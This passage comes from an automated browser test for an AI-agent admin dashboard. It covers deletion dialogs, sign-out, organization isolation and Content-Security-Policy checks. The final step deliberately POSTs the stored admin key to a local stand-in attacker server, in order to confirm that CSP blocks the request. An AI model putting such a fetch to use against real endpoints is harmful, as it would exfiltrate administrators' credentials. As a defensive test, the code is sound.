    assert.ok(found, 'Tab reaches the Agents link');
    await page.keyboard.press('Enter');
    await heading('Agents').waitFor();

    await page.getByRole('link', { name: agent.name }).focus();
    await page.keyboard.press('Enter');
    await heading(agent.name).waitFor();
    await page.getByRole('button', { name: 'Delete agent…' }).focus();
    await page.keyboard.press('Enter');
    const dialog = page.getByRole('dialog', { name: `Delete ${agent.name}?` });
    await dialog.waitFor();
    assert.equal(await page.evaluate(() => document.activeElement?.closest('dialog') !== null), true, 'focus moves into the dialog');
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'hidden' });
    assert.ok(await admin.getAgent(agent.id), 'Escape deleted nothing');
  });

  step('removes a rule and a tool, then deletes the agent after confirmation', async () => {
    await page.getByRole('button', { name: 'Remove rule github delete_branch' }).click();
    await page.getByRole('dialog', { name: 'Remove this rule?' }).getByRole('button', { name: 'Remove rule' }).click();
    await main().getByText('No rules yet').waitFor();
    assert.deepEqual((await admin.listRules(agent.id)).rules, []);

    await page.getByRole('button', { name: 'Remove tool github' }).click();
    await page.getByRole('dialog', { name: 'Remove tool github?' }).getByRole('button', { name: 'Remove tool' }).click();
    await main().getByText('No tools yet.').waitFor();

    await page.getByRole('button', { name: 'Delete agent…' }).click();
    await page.getByRole('dialog', { name: `Delete ${agent.name}?` }).getByRole('button', { name: 'Delete agent' }).click();
    await heading('Agents').waitFor();
    await main().getByText('No agents yet.').waitFor();
    await assert.rejects(admin.getAgent(agent.id), (err) => err.status === 404);
  });

  step('signs out, forgets the key, and another organization sees none of this', async () => {
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('heading', { name: 'Sign in to the admin dashboard' }).waitFor();
    const session = await page.evaluate(() => Object.values(sessionStorage));
    assert.ok(!session.some((v) => v.includes('oakadm_')), 'no key left in sessionStorage');
    await page.reload();
    await page.getByRole('heading', { name: 'Sign in to the admin dashboard' }).waitFor();

    await signIn(worker.otherAdminKey);
    await heading('Overview').waitFor();
    await main().getByText('No decisions in this range yet.').waitFor();
    await nav('Logs').click();
    await main().getByText('No decisions yet.').waitFor();
    await nav('Activity').click();
    await main().getByText('No admin activity yet.').waitFor();
    await page.getByRole('button', { name: 'Verify audit log' }).click();
    await main().getByText('Nothing to verify yet: no agent has made a decision.').waitFor();
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('heading', { name: 'Sign in to the admin dashboard' }).waitFor();
  });

  step('the page broke none of its own Content-Security-Policy (the _headers the build wrote)', async () => {
    const res = await fetch(dashboard.url);
    assert.match(res.headers.get('content-security-policy') ?? '', /script-src 'self'/);
    assert.deepEqual(cspViolations, []);
  });

  step('the CSP lets the page connect to its own origin and the configured API only', async () => {
    const csp = (await fetch(dashboard.url)).headers.get('content-security-policy') ?? '';
    const connect = csp.split(';').map((d) => d.trim()).filter((d) => d.startsWith('connect-src'));
    assert.deepEqual(connect, [`connect-src 'self' ${new URL(worker.baseUrl).origin}`]);

    // Another local server that would take anything from any origin, as an attacker's would.
    const received = [];
    const other = createServer((req, res) => {
      received.push(req.url);
      res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' }).end('taken');
    });
    await new Promise((resolve) => other.listen(0, '127.0.0.1', resolve));
    const otherUrl = `http://127.0.0.1:${other.address().port}/collect`;
    try {
      const result = await page.evaluate(async (url) => {
        const violations = [];
        document.addEventListener('securitypolicyviolation', (e) => violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
        let outcome;
        try {
          outcome = await (await fetch(url, { method: 'POST', body: sessionStorage.getItem('oakauth.adminKey') ?? 'oakadm_secret' })).text();
        } catch (err) {
          outcome = `refused: ${err.name}`;
        }
        await new Promise((resolve) => setTimeout(resolve, 200)); // the violation event is dispatched as a task
        return { outcome, violations };
      }, otherUrl);
      assert.equal(result.outcome, 'refused: TypeError');
      assert.equal(result.violations.length, 1, JSON.stringify(result.violations));
      assert.equal(result.violations[0].directive, 'connect-src');
      assert.equal(new URL(result.violations[0].blocked).origin, new URL(otherUrl).origin);
      assert.deepEqual(received, [], 'nothing reached the other server');
    } finally {
      await new Promise((resolve) => other.close(resolve));
    }
  });
});
